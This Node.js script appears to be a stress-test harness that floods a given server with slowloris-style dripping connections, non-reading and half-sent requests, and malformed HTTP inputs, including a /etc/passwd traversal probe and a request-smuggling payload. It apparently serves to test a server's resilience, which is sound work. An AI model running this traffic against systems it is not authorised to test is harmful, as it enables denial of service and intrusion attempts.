// A single attacker; also runs within a container. Arguments: host, port, host name to request, and `tls` or `plain`.
// Ends after a while and reports what it did.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

const [host = '', port = '', name = '', kind = ''] = process.argv.slice(-4);
const minDurationMs = 20_000;
/** Numbers of connections, by what they do wrong. */
const dripping = 300;
const notReading = 30;
const halfSent = 300;
const malformed = 5_000;
const pauseMs = 10;
const timeoutMs = 2_000;

function open() {
  const socket =
    kind === 'tls'
      ? connectTls({ host, port: Number(port), servername: name.split(':')[0], rejectUnauthorized: false })
      : connect({ host, port: Number(port) });
  // Errors on an attacker's socket are expected.
  return socket.on('error', () => undefined);
}

const startedAt = Date.now();
const isOver = () => Date.now() - startedAt > minDurationMs;

/**
 * Sends a text, reads no response and keeps the connection open; with `more` it continues sending slowly.
 * @param {string} text @param {string} [more]
 */
async function hold(text, more) {
  let socket = open();
  if (!more) socket.pause();
  socket.write(text);
  while (!isOver()) {
    await sleep(500);
    if (more && socket.destroyed) socket = open();
    if (more) socket.write(more);
  }
  socket.destroy();
}

const nonsense = [
  '\u0016\u0003\u0001nonsense',
  'GET / HTTP/9.9\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  `GET /\0 HTTP/1.1\r\nhost: ${name}\r\n\r\n`,
  `GET /%zz/..%2f..%2fetc/passwd HTTP/1.1\r\nhost: ${name}\r\nconnection: close\r\n\r\n`,
  `POST / HTTP/1.1\r\nhost: ${name}\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /`,
  `GET / HTTP/1.1\r\nhost: ${name}\r\nx: ${'y'.repeat(100_000)}\r\n\r\n`,
  `GET / HTTP/1.1\r\nhost: ${name}\r\nhost: other.example\r\nconnection: close\r\n\r\n`,
];
async function sendNonsense() {
  for (let sent = 0; sent < malformed; sent += 1) {
    const socket = open();
    socket.end(nonsense[sent % nonsense.length] ?? '');
    socket.resume();
    const timer = setTimeout(() => socket.destroy(), timeoutMs);
    socket.once('close', () => clearTimeout(timer));
    await sleep(pauseMs);
  }
}

/**
 * Starts several attackers, a moment apart.
 * @param {number} length
 * @param {() => Promise<void>} act
 */
const attackers = (length, act) =>
  Array.from({ length }, async (_, index) => {
    await sleep(index * 3 * pauseMs);
    await act();
  });

await Promise.all([
  ...attackers(dripping, () => hold(`GET / HTTP/1.1\r\nhost: ${name}\r\nx: `, 'y')),
  ...attackers(notReading, () => hold(`GET /materials HTTP/1.1\r\nhost: ${name}\r\n\r\n`.repeat(50))),
  ...attackers(halfSent, () =>
    hold(
      `POST /api/quotes HTTP/1.1\r\nhost: ${name}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{`,
    ),
  ),
  sendNonsense(),
]);
console.log(
  `${dripping} that drip, ${notReading} that read nothing, ${halfSent} half-sent and ${malformed} malformed connections in ${Math.round((Date.now() - startedAt) / 1_000)} s`,
);
process.exit();
